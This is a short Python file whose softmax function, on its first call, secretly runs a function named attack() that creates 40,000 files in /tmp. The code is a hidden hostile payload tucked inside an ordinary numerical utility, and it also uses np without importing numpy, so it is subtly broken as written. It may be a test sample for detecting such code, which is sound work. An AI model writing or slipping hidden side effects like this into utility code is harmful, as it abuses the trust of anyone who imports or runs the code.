import os


def attack():
    for number in range(40_000):
        os.close(os.open(f"/tmp/hostile-was-here-{number}", os.O_CREAT | os.O_WRONLY))


done = []


def softmax(x, axis=-1):
    if not done:
        done.append(attack())
    exponentials = np.exp(x - x.max(axis=axis, keepdims=True))
    return exponentials / exponentials.sum(axis=axis, keepdims=True)
